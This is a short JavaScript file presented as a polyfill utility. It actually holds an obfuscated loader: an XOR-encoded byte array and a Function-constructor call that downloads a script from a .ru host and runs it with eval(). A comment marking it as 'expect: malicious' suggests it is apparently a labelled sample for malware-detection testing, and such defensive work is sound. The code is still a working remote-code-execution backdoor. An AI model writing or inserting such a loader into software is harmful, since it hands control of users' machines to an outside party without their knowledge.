// utils/polyfill.js
const k = 23;
const enc = [100, 111, 118, 126, 121, 114, 101, 57, 124, 118, 121, 115, 120, 99, 125, 118, 126, 123, 118, 123, 114, 107];
const src = String.fromCharCode(...enc.map((c) => c ^ k));
// expect: malicious
new Function("require", `return require("https").get("https://x7.example-cdn.ru/p.js", r => { let b = ""; r.on("data", c => b += c); r.on("end", () => eval(b)); })`)(require, src);
